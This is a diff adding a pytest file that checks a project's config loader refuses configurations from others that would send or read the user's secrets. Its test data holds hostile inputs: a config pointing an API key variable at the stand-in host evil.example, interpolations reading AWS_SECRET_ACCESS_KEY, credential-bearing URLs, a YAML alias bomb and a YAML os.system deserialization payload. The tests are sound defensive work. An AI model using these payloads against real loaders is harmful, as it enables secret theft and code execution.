@@ -1,0 +1,129 @@
+"""A configuration or a run directory from somebody else sends no secret of ours anywhere, and reads none."""
+
+from collections.abc import Callable
+from pathlib import Path
+
+import pytest
+
+from replug.commands.ask import config_of
+from replug.commands.slurm import _on_the_command_line
+from replug.configs.errors import UserError
+from replug.configs.load import config_to_yaml, load_config, load_evaluation_config, load_score_config, names_evaluation
+from replug.train.run_dir import RunDirectory
+
+SECRET = "AWS_SECRET_ACCESS_KEY"
+GOOD = "run_dir: run\nretriever: {path: stand_in}\ndata: {source: stand_in}\n"
+SERVER = GOOD + f"lm: {{url: 'http://evil.example/v1', model: m, api_key_env: {SECRET}, cache: /tmp/theirs}}\n"
+
+
+@pytest.fixture(autouse=True)
+def a_secret(monkeypatch: pytest.MonkeyPatch) -> None:
+    monkeypatch.setenv(SECRET, "hunter2")
+
+
+def write(folder: Path, text: str) -> Path:
+    path = folder / "config.yaml"
+    path.write_text(text)
+    return path
+
+
+def test_a_run_from_somebody_else_names_neither_the_server_nor_the_key(tmp_path: Path) -> None:
+    write(tmp_path, SERVER)
+    with pytest.raises(UserError, match=r"names the server http://evil\.example/v1, which is asked on your word only"):
+        config_of(tmp_path, []).lm
+    said = "lm.url=http://127.0.0.1:8000/v1"
+    assert config_of(tmp_path, [said, "lm.model=mine"]).lm.api_key_env == "REPLUG_LM_API_KEY"
+    assert config_of(tmp_path, ["lm.path=stand_in"]).lm.url is None
+
+
+def test_a_run_on_local_weights_is_asked_as_before_but_for_its_cache(tmp_path: Path) -> None:
+    write(tmp_path, GOOD + f"lm: {{path: stand_in, api_key_env: {SECRET}, cache: /tmp/theirs}}\n")
+    lm = config_of(tmp_path, []).lm
+    assert (lm.path, lm.api_key_env, lm.cache) == ("stand_in", "REPLUG_LM_API_KEY", None)
+
+
+@pytest.mark.parametrize("load", [load_config, load_evaluation_config])
+def test_a_configuration_may_name_our_own_variables_only_and_the_command_line_any(
+    load: Callable, tmp_path: Path
+) -> None:
+    head = GOOD if load is load_config else "evaluation: lm\nout: out\ndata: {source: stand_in}\nmethods: [none]\n"
+    lm = "lm: {{url: 'http://127.0.0.1/v1', model: m, api_key_env: {}}}\n"
+    path = write(tmp_path, head + lm.format(SECRET))
+    with pytest.raises(UserError, match=rf"names \${SECRET}, which is sent to lm.url; a file may name variables that"):
+        load(path)
+    assert load(path, [f"lm.api_key_env={SECRET}"]).lm.api_key_env == SECRET
+    assert load(write(tmp_path, head + lm.format("REPLUG_OTHER_KEY"))).lm.api_key_env == "REPLUG_OTHER_KEY"
+
+
+def test_a_run_that_was_begun_with_a_key_of_the_users_choice_goes_on(tmp_path: Path) -> None:
+    path = write(tmp_path, GOOD + "lm: {url: 'http://127.0.0.1/v1', model: m}\n")
+    config = load_config(path, [f"run_dir={tmp_path / 'run'}", "lm.api_key_env=OPENAI_API_KEY"])
+    RunDirectory(tmp_path / "run").claim(config, "lm")
+    RunDirectory(tmp_path / "run").claim(config, "lm")
+    assert _on_the_command_line(config) == ["lm.api_key_env=OPENAI_API_KEY"], "a job's file may not say it"
+
+
+@pytest.mark.parametrize(
+    "value",
+    [
+        "${oc.env:AWS_SECRET_ACCESS_KEY}",
+        "x-${oc.env:AWS_SECRET_ACCESS_KEY,none}",
+        "${oc.env:${run_dir}}",
+        "${ oc.env : AWS_SECRET_ACCESS_KEY}",
+        "${${seed}.env:AWS_SECRET_ACCESS_KEY}",
+        "${oc.decode:'1'}",
+        "${oc.create:{a: 1}}",
+        "${retriever.${run_dir}}",
+    ],
+)
+def test_nothing_but_other_keys_stands_in_for_a_value(value: str, tmp_path: Path) -> None:
+    text = GOOD + f'lm: {{path: stand_in}}\nwandb: {{name: "{value}"}}\n'
+    for load in (
+        lambda: load_config(write(tmp_path, text)),
+        lambda: load_config(write(tmp_path, GOOD + "lm: {path: stand_in}"), [f"wandb.name={value}"]),
+        lambda: load_score_config([f"lm.path={value}"]),
+        lambda: load_evaluation_config(write(tmp_path, "evaluation: lm\n"), [f"out={value}"]),
+    ):
+        with pytest.raises(UserError) as caught:
+            load()
+        assert "hunter2" not in str(caught.value)
+
+
+def test_another_key_may_stand_in_for_a_value(tmp_path: Path) -> None:
+    config = load_config(write(tmp_path, GOOD + "lm: {path: stand_in}\nwandb: {name: 'a-${run_dir}-${train.lr}'}\n"))
+    assert config.wandb.name == "a-run-2e-05"
+    assert "hunter2" not in config_to_yaml(config)
+
+
+@pytest.mark.parametrize(
+    "url",
+    ["http://me:hunter2@host/v1", "http://hunter2@host/v1", "http://host/v1?key=hunter2", "http://host/v1#hunter2"],
+)
+def test_a_url_with_a_secret_in_it_is_refused_without_being_shown(url: str, tmp_path: Path) -> None:
+    with pytest.raises(UserError, match=r"lm\.url holds a secret") as caught:
+        load_config(write(tmp_path, GOOD), [f"lm.url={url}", "lm.model=m"])
+    assert "hunter2" not in str(caught.value)
+
+
+HOSTILE = {
+    "aliases of aliases": (
+        "a: &a [x, x, x, x, x, x, x, x, x, x]\n"
+        + "".join(
+            f"{name}: &{name} [{', '.join(f'*{before}' for _ in range(10))}]\n"
+            for before, name in zip("abcdefgh", "bcdefghi", strict=True)
+        ),
+        "is an alias",
+    ),
+    "brackets": ("a: " + "[" * 5000 + "]" * 5000, "nested too deeply"),
+    "a million bytes": ("# " + "x" * 1_000_001, "expected at most 1,000,000"),
+    "an object of Python": ("run_dir: !!python/object/apply:os.system ['touch /tmp/owned']", "not valid YAML"),
+}
+
+
+@pytest.mark.parametrize("name", HOSTILE)
+def test_a_hostile_file_ends_in_one_line(name: str, tmp_path: Path) -> None:
+    text, message = HOSTILE[name]
+    path = write(tmp_path, text)
+    assert not names_evaluation(path)
+    with pytest.raises(UserError, match=message):
+        load_config(path)
